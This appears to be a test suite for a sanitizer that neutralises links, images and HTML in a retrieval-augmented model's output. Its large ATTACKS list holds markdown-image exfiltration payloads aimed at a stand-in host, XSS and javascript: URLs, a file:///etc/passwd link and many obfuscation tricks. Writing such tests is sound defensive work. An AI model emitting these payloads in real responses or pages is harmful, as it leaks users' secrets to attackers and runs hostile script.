import re
import time
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from app.rag.citations import MarkerFilter
from app.rag.safe_output import LONGEST_HELD, SafeOutput, safe
from tests.conftest import ROOT
from tests.unit.rag.renderers import ALLOWED, DOCUMENT, DOCUMENTS, live

ATTACKS = [
    # images
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "![x][]\n\n[x]: https://evil.example",
    "![x]\n\n[x]:\n  https://evil.example\n  'title'",
    "![x](<https://evil.example/a b>)",
    "![x\n\ty](https://evil.example/a.png 'title')",
    '![x](https://evil.example/a.png "a ) b")',
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![![x](https://evil.example/1)](https://evil.example/2)",
    f"![x]({DOCUMENT})",
    "![x](https://good.example/pixel.png?q=secret)",
    "<img src=https://evil.example/a.png>",
    "<IMG/SRC='https://evil.example/a.png'>",
    "<img alt='>' src=https://evil.example/a.png>",
    "<img src=x onerror=fetch('//evil.example')>",
    "<svg/onload=alert(1)>",
    "<svg><image href='https://evil.example/a.png'/></svg>",
    "<picture><source srcset='https://evil.example/a.png 2x'></picture>",
    "<div style='background:url(https://evil.example/a.png)'>x</div>",
    "<video poster=//evil.example/a.png>",
    # tags
    "<a href='https://evil.example'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<script src=https://evil.example/a.js></script>",
    "<script async defer src=https://evil.example/a.js>",
    "<style>@import url(https://evil.example/a.css);</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=q><button>x</button></form>",
    "<base href=https://evil.example/>",
    "<details open ontoggle=alert(1)>",
    "<!-- <img src=https://evil.example/a.png> -->",
    "<!--><img src=https://evil.example/a.png>",
    "<![CDATA[<img src=https://evil.example/a.png>]]>",
    "<?xml-stylesheet href='https://evil.example/a.css'?>",
    "<img src='https://evil.example/a.png'",
    "<x onclick=alert(1)>x</x>",
    "<a\nhref='https://evil.example'\n>x</a>",
    # links
    "[x](https://evil.example)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](https:\\\\evil.example)",
    "[x](https://good.example@evil.example)",
    "[x](https://good.example\\@evil.example)",
    "[x](https://good.example%40evil.example)",
    "[x](https://good.example&commat;evil.example)",
    "[x](https://good.example.evil.example)",
    "[x](https://good.example。evil.example)",
    "[x](https://evilgood.example)",
    "[x](https://good.example:8080/)",
    "[x](https://user:password@good.example)",
    "[x](https://gооd.example)",
    "[x](https://xn--gd-emoa.example)",
    "[x](ftp://good.example)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](mailto:spy@evil.example?body=secret)",
    "[x](<https://evil.example> 'title')",
    "[x](&#104;ttps://evil.example)",
    "[x](&#x68;ttps&#58;//evil.example)",
    f"[x]({DOCUMENT}/../../../logout)",
    "[x](/logout)",
    "[x][1] [1][] [1]\n\n[1]: https://evil.example",
    "> [x]: https://evil.example\n\n[x]",
    "- [x]: <https://evil.example>\n\n[x]",
    "[^1]: https://evil.example\n\n[^1]",
    "[x\ny]: https://evil.example\n\n[x y]",
    "[1](https://evil.example)",
    "[x\\](y)](https://evil.example)",
    "\\[x](https://evil.example)",
    "\\\\[x](https://evil.example)",
    # addresses
    "<https://evil.example>",
    "<HTTPS://evil.example>",
    "<spy@evil.example>",
    "<javascript:alert(1)>",
    "https://evil.example/?q=secret",
    "http://evil.example",
    "HtTpS://evil.example",
    "ftp://evil.example",
    "xhttps://evil.example",
    "//evil.example",
    "www.evil.example",
    "x_www.evil.example",
    "evil.com/?q=secret",
    "evil.com",
    "evil.comలో",
    "evil.in.evil.evil.evil.evil.evil.evil.evil.evil",
    "a.evil.xn--p1ai",
    "spy@evil.example",
    "mailto:spy@evil.example",
    "mailto:spy@evil",
    "//localhost:631/x",
    "https\\://evil.example",
    "https:\\/\\/evil.example",
    "evil\\.com",
    "ht\u200btps://evil.example",
    "ht\u00adtps://evil.example",
    "ht\u200dtps://evil.com",
    "https:\U000e0020//evil.example",
    "https://good.example@evil.example",
    "https://good.example,evil.com",
    "https://good.example\\evil.com",
    "https://good.example.evil.com",
    "https://good.example)https://evil.example",
    "https://good.example/)https://evil.example",
    "https://good.example/?u=https://evil.example)",
    "https://good.example//evil.com",
    "&#104;ttps://evil.example",
    "&#104ttps://evil.example",
    "https&colon;&sol;&sol;evil&period;com",
    "https&amp;colon;//evil.com",
    # what is removed must not let its neighbours meet
    "![x]<img>(https://evil.example)",
    "<![x](y)img src=https://evil.example>",
    "<<b>img src=https://evil.example>",
    "<i<b>mg src=https://evil.example>",
    "ht<b></b>tps://evil.example",
    "ht![x](y)tps://evil.example",
    "ht[tps](https://x)://evil.example",
    "h[](https://x)ttps://evil.example",
    "[x]<b>(https://evil.example)",
    "[x](https://a)(https://evil.example)",
    "![[x](https://a)](https://evil.example)",
    "!<b></b>[x](https://good.example/pixel.png)",
    "!![x](y)[x](https://good.example/pixel.png)",
    "[[x](y)](z): https://evil.example",
    "&<b>#104;ttps://evil.example",
    "&#38;#104;ttps://evil.com",
    # nor must a marker that is removed behind
    "<[9]img src=https://evil.example>",
    "< [9]img src=https://evil.example>",
    "<[9]!--",
    "ht[9]tps://evil.example",
    "https[9]://evil.example",
    "see mailto[9]:spy@evil",
    "See [9][x]: /logout\n\n[x]",
    "Text\n[x]: /logout\n\n[x]",
    "https:[9]//evil.example",
    "https:/[9]/evil.example",
    "https://[9]evil.example",
    "/[9]/evil.example",
    "www[9].evil.example",
    "www [9][8].evil.example",
    "evil[9].com",
    "evil.[9]com",
    "spy[9]@evil.example",
    "spy@[9]evil.example",
    "[x][9](/logout)",
    "[x]【9】(/logout)",
    "[x][9]: /logout\n\n[x]",
    "![9][x](https://good.example/pixel.png)",
    "&[9]#104;ttps://evil.example",
    f"[1†{'a' * 60}, 9†{'b' * 60}].evil.com",
    # code that is not taken for code
    "`![x](https://evil.example/a.png)`",
    "```\n![x](https://evil.example/a.png)\n<img src=https://evil.example/a.png>\n```",
    "~~~html\n<a href='https://evil.example'>x</a>\n[x](https://evil.example)\nwww.evil.example\n~~~",
    "`` ` [x](https://evil.example) ``",
    "```\n<script src=//evil.example/a.js></script>",
    # what was approved inside must not be imitated
    "[x]\ufdd0https://evil.example\ufdd1",
    "\ufdd2\ufdd0javascript:alert(1)\ufdd1",
]
UNTOUCHED = [
    "Employees receive 20 days of leave [1], [1, 2] and [1-3].",
    "See 【1】, [^2] and [3][4]: all of it. [1]!",
    "If a < b and b > c, then a<3 or a <= c, and 5 <6.",
    "Open report.pdf, README.md, main.py, notes.txt and a.tar.gz at 10:30; version 1.2.3, v2.0, 3.14, 192.168.0.1.",
    "ఉద్యోగులకు సంవత్సరానికి 20 రోజుల సెలవు ఉంటుంది. [1] మధ్యాహ్నం 12:30కి.",
    "कर्मचारियों को 20 दिन की छुट्टी मिलती है। क्\u200dष और क्\u200cष [2]",
    "❤\ufe0f\u200d🔥 👩\u200d💻 ok",
    "| a | b |\n|---|---|\n| 1<br>2 | 3 |\n\n1. **bold** _it_\n> quote\n# Heading\n- [ ] open\n- [x] done",
    "\\(x^2\\) and \\[ \\frac{a}{b} \\] and $a_{1}$, f(x), [a, b], {c}, [sic], [T]he.",
    "AT&T, R&D, &copy; and &lt;b&gt;; e.g. and i.e. mean this... at 9 a.m. in the U.S.",
    "Path C:\\Users\\me and /etc/hosts and ./run.sh --x=1 # comment // and more",
    "```python\nfor user in users:\n    print(user.id, self.name, a < b)\n@app.route\n```",
    "Ratio 3:1. Note: this; that (see page 3): fine? Yes! \"Quoted\" 'it' — and – so on …",
    "https://good.example/a/report.pdf?x=1#y and (http://sub.good.example/), good.example.",
    f"[Handbook]({DOCUMENT}) and [there](https://good.example/a?b=c&d=1) and [bücher](https://xn--bcher-kva.example/)",
    "[local](http://localhost:8000/x)",
    "Write to help@good.example or call 040-1234.",
]


def shown(text: str) -> str:
    return safe(text, ALLOWED, DOCUMENTS)


def in_pieces(text: str, sizes: list[int]) -> str:
    output, at, parts = SafeOutput(ALLOWED, DOCUMENTS), 0, []
    for size in sizes:
        parts.append(output.feed(text[at : at + size]))
        at += size
    return "".join([*parts, output.feed(text[at:]), output.flush()])


def without_markers(text: str, known: set[int]) -> str:
    markers = MarkerFilter(known)
    return markers.feed(text) + markers.flush()


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_foreign_is_live(attack):
    for around in ("{}", "See {} now.", "- item {}\n\n| {} |", "x{}x", "**{}**", "({})", '"{}"'):
        result = shown(around.replace("{}", attack))
        assert live(result) == []
        assert live(without_markers(result, set())) == []
        assert live(without_markers(result, {1})) == []


def test_most_attacks_work_when_nothing_is_done():
    """Or the test above could not fail; the others need a program that is laxer, or a marker to be removed."""
    assert len([attack for attack in ATTACKS if live(attack)]) > 0.7 * len(ATTACKS)


@pytest.mark.parametrize("text", UNTOUCHED)
def test_what_is_harmless_stays(text):
    assert shown(text) == text


@pytest.mark.parametrize(
    "char", "\0\x01\r\x7f\x9f\xad\u200b\u200c\u200d\u200e\u202e\u2060\u2066\ufe0f\ufeff\ufdd0\U000e0041\ud800"
)
def test_invisible_characters_hide_nothing(char):
    assert shown(f"ht{char}tps:{char}//evil{char}.example <i{char}mg src=x>") == "hxxps://evil[.]example "


def documented() -> list[tuple[str, str]]:
    """The table in docs/prompting.md."""
    table = (ROOT / "docs" / "prompting.md").read_text().partition("<!-- safe output -->")[2].partition("\n\n")[0]
    cell = r"`{1,2} ?(.*?) ?`{1,2}"
    rows = re.findall(rf"^\| {cell} \| (?:{cell}|nothing) \|", table, re.MULTILINE)
    return [(model.replace("\\|", "|"), out.replace("\\|", "|")) for model, out in rows]


def test_the_documentation_has_examples():
    assert len(documented()) > 15


@pytest.mark.parametrize(("model", "expected"), documented())
def test_documented_examples(model, expected):
    assert safe(model, frozenset({"good.example"}), {"/api/v1/documents/42/content?version=1"}) == expected


FRAGMENTS = """
! [ ] ( ) < > / \\ : . @ & # ; " ' ` ~ * _ = | { } ^ - + ? , % [1] [9] 【9】 [x] [^1] \n \n\n \t \u200b \u200d \r \0
\ufdd0 \ufdd1 \ufdd2 http https HTTPS htt h ht tps :// // /\\ :/ ftp:// www. .com com .evil.com evil.com evil.example
good.example https://good.example https://good.example/a https://evil.example/q?x=1 //evil.com <b> </b> <br> <br/> <!--
--> <img <img> src= src=https://evil.com/x.png <a href= <a </a> <script> <svg <svg/onload=alert(1)> onerror=alert(1)
javascript: JaVaScRiPt: data: data:text/html, mailto: user@ user@evil.com user@good.example &#104; &#58; &#x3a; &colon;
&sol; &period; &lt; &gt; &amp; &Tab; &NewLine; &#60 &zwj; ![x](https://evil.com/i.png) [t](https://evil.com)
[t](https://good.example/p) ![ ]( ][ ][1] []: ]: [1]: [1]:\n [x]: <https://evil.com> (https://evil.com) <//evil.com> 1 a
b A xn--e1a. .рф ఉంది క్\u200dష \u2028 \xa0 ``` ~~~ main.py a.md
"""
fragments = st.sampled_from(
    [
        *FRAGMENTS.strip("\n").replace("\n", " ").split(" "),
        "\n",
        "\n\n",
        "[1]:\n",
        " ",
        "    ",
        DOCUMENT,
        f"]({DOCUMENT})",
    ]
)
mixtures = st.lists(fragments, min_size=1, max_size=14).map("".join)


@settings(max_examples=400, deadline=None)
@given(mixtures, st.lists(st.integers(1, 9), max_size=30), st.sets(st.sampled_from([1, 9])))
def test_mixtures_are_inert_and_the_same_wherever_they_are_cut(text, sizes, known):
    result = shown(text)
    assert live(result) == []
    assert live(without_markers(result, known)) == []
    assert in_pieces(text, sizes) == result
    assert in_pieces(text, [1] * len(text)) == result


@settings(max_examples=300, deadline=None)
@given(st.text(), st.lists(st.integers(0, 5), max_size=40))
def test_any_text_is_inert_and_the_same_wherever_it_is_cut(text, sizes):
    result = shown(text)
    assert live(result) == []
    assert in_pieces(text, sizes) == result


@example("`1.HT", [])
@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="<![]()/:.@&#`\\hHtTpPsS wW1\n", max_size=60), st.lists(st.integers(0, 5), max_size=40))
def test_signs_that_mean_something(text, sizes):
    result = shown(text)
    assert live(result) == []
    assert in_pieces(text, sizes) == result


@settings(max_examples=50, deadline=None)
@given(st.text(alphabet="abcdegi తెలుగుహి1, ", min_size=1, max_size=60))
def test_words_are_not_held_back(text):
    output = SafeOutput(ALLOWED, DOCUMENTS)
    assert "".join(map(output.feed, text)) == text


@pytest.mark.parametrize(
    "opened", ["[", "![", "<img ", "<a href='", "[x](", "![x](https://evil.example/", "&#1", "a.", "https://"]
)
def test_what_is_never_closed_is_held_back_for_a_bounded_time(opened):
    output, fed, given_back = SafeOutput(ALLOWED, DOCUMENTS), 0, 0
    for piece in [opened, *["ab"] * 3000]:
        fed += len(piece)
        given_back += len(output.feed(piece))
        assert fed - given_back <= LONGEST_HELD
    assert given_back > 3000


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "![",
        "<img ",
        "<a",
        "[a](",
        " h",
        ".a",
        "[1].a",
        "&#1",
        "`",
        "[x](((",
        "[[]",
        "!",
        "[![a](b)](c)",
        "a:",
        "://",
        "a@b",
    ],
)
def test_time_is_linear(unit):
    """Twice the text takes about twice the time; what is quadratic takes four times as long."""

    def seconds(size: int) -> float:
        text = (unit * size)[:size]
        return min(_timed(text) for _ in range(2))

    times = [seconds(size) for size in (5_000, 20_000)]
    assert all(later < 12 * earlier + 0.05 for earlier, later in pairwise(times))


def _timed(text: str) -> float:
    began = time.process_time()
    safe(text)
    return time.process_time() - began
